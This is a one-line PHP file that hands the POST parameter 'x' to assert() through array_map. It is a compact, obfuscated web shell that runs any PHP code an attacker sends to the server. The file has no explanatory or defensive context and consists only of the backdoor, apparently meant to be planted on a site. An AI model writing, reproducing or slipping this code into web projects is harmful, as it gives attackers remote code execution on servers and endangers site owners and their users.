<?php array_map('assert', array($_POST['x']));
